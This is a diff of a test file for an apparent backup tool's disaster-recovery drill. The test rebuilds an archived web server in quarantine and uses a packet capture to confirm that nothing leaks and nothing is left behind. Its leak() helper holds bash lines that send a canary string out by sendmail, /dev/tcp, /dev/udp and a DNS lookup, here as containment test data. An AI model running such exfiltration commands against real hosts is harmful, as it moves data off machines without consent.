@@ -1,34 +1,39 @@
 /** A drill of a whole machine: a small web server, archived, rebuilt in quarantine from packages that were fetched before, and removed again. */
 import { execFileSync } from "node:child_process";
-import { copyFileSync, existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
+import { copyFileSync, mkdirSync, readdirSync } from "node:fs";
 import { createServer } from "node:net";
 import { networkInterfaces } from "node:os";
 import { join } from "node:path";
 import { beforeAll, expect, test } from "vitest";
-import type { DrillReport } from "../../src/engine/drill/run.ts";
 import { DebianRoot } from "../support/debian.ts";
+import { PacketCapture } from "../support/packet-capture.ts";
 import { runColdkeep } from "../support/program.ts";
 import { buildSingleFile } from "../support/single-file.ts";
 import { afterUse, fileTempDir } from "../support/temp-dir.ts";
 import { makeTree } from "../support/tree.ts";
+import { DrillMachine } from "./drill/drill-machine.ts";
 
 const KIT = "/root/kit.txt";
 const PAGE_PORT = 18_743;
 let work: string;
-let kit: string;
+let machine: DrillMachine;
 let outside: { host: string; port: number };
-let connections = 0;
 
-/** What a restored server may try by itself: mail to people, and another machine. */
+/** In every packet that must not get out, and in one of our own that shows that the capture sees such packets. */
+const SECRET = "canary-of-the-archive";
+const CONTROL = "canary-of-the-test";
+
+/** What a restored server may try by itself: mail to people, another machine, a name. */
 const leak = ({ host, port }: typeof outside): string => `#!/bin/bash
-echo hello | /usr/sbin/sendmail somebody@example.net
-! timeout 2 bash -c 'echo secret > /dev/tcp/${host}/${port}' 2>/dev/null
+echo ${SECRET} | /usr/sbin/sendmail somebody@example.net
+echo ${SECRET} > /dev/udp/${host}/${port}
+getent hosts ${SECRET}.example.net
+! timeout 2 bash -c 'echo ${SECRET} > /dev/tcp/${host}/${port}' 2>/dev/null
 `;
 
 beforeAll(async () => {
   const host = Object.values(networkInterfaces()).flatMap((each) => each ?? []).find(({ internal, family }) => !internal && family === "IPv4")?.address ?? "127.0.0.1";
   const server = createServer((socket) => {
-    connections++;
     socket.destroy();
   });
   await new Promise<void>((resolve) => void server.listen(0, host, resolve));
@@ -65,25 +70,14 @@ END
      mv ${KIT} /mnt/kit.txt; coldkeep backup -v`,
     { hostName: "web1" },
   );
-  kit = join(work, "kit.txt");
-  execFileSync("cp", ["-a", `${old.path}/mnt/.`, work]);
-  execFileSync("sed", ["-i", `s#file:///mnt/#file://${work}/#`, kit]);
+  machine = DrillMachine.make(work, old);
 }, 600_000);
 
-async function drill(args: string[]): Promise<{ status: number | null; stderr: string; document: DrillReport & { error?: { message: string } } }> {
-  const config = join(work, "coldkeep.yaml");
-  // Only its state folder is of use here: where base systems are kept.
-  if (!existsSync(config)) {
-    const vault = /"([0-9a-f]{32})"|([0-9a-f]{32})/.exec(execFileSync("cat", [join(work, "a/coldkeep.json")], { encoding: "utf8" }))?.[0]?.replaceAll('"', "") ?? "";
-    writeFileSync(config, `vault: "${vault}"\nhost: drill-machine\nregions: [{name: a, url: "file://${work}/a"}]\nrecipients: [age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p]\nsources: [/etc]\nstate: ${work}/state\n`);
-  }
-  const result = await runColdkeep(["drill", "-v", "--json", "--depth", "services", "--kit", kit, "--config", config, "--accept", "memory", "--accept", "cpus", ...args], { timeoutMs: 400_000 });
-  return { status: result.status, stderr: result.stderr, document: result.json() };
-}
-
-test("services run, checks are well, nothing gets out, and nothing stays", async () => {
-  const before = connections;
-  const { status, stderr, document } = await drill([]);
+test("services run, checks are well, a packet capture outside sees nothing of it, and nothing stays", async () => {
+  const capture = await PacketCapture.start();
+  const { status, stderr, document } = await machine.drill(["--depth", "services"]);
+  execFileSync("bash", ["-c", `echo ${CONTROL} > /dev/udp/${outside.host}/${outside.port}; echo ${CONTROL} > /dev/tcp/${outside.host}/${outside.port}`]);
+  const packets = await capture.stop();
   expect(document.error?.message ?? document.why.join("\n"), stderr).toBe("");
   expect(document).toMatchObject({ host: "web1", depth: "services", result: "passed", cleanUp: { processesLeft: 0, mountsLeft: 0, folderLeft: false } });
   expect(document.machine?.interfaces).toEqual(["lo"]);
@@ -92,16 +86,19 @@ test("services run, checks are well, nothing gets out, and nothing stays", async
   expect(document.rtoMs).toBeGreaterThan(1000);
   expect(document.rtoObjectiveMs).toBe(7_200_000);
   expect([0, 3]).toContain(status);
-  expect(connections).toBe(before);
+  expect(packets.includes(CONTROL)).toBe(true);
+  expect(packets.includes(SECRET)).toBe(false);
+  // The load check asked for the page some forty times, inside.
+  expect(packets.includes(`127.0.0.1:${PAGE_PORT}`)).toBe(false);
   expect(readdirSync(join(work, "state/drill"))).toEqual([]);
   const record = readdirSync(join(work, "b/hosts/web1/records"));
   expect(record).toHaveLength(1);
-  const said = await runColdkeep(["status", "--kit", kit]);
+  const said = await runColdkeep(["status", "--kit", machine.kit]);
   expect(said.stdout).toMatch(/drilled +services passed .* ago; took /);
 }, 500_000);
 
 test("with a damaged copy it fails, which is what --sabotage is for", async () => {
-  const { status, document } = await drill(["--sabotage"]);
+  const { status, document } = await machine.drill(["--depth", "services", "--sabotage"]);
   expect(document).toMatchObject({ result: "failed", sabotaged: true, record: null, cleanUp: { processesLeft: 0, mountsLeft: 0, folderLeft: false } });
   expect(document.why.join("\n")).toMatch(/the rebuild ended with|lost/);
   expect(status).toBe(0);
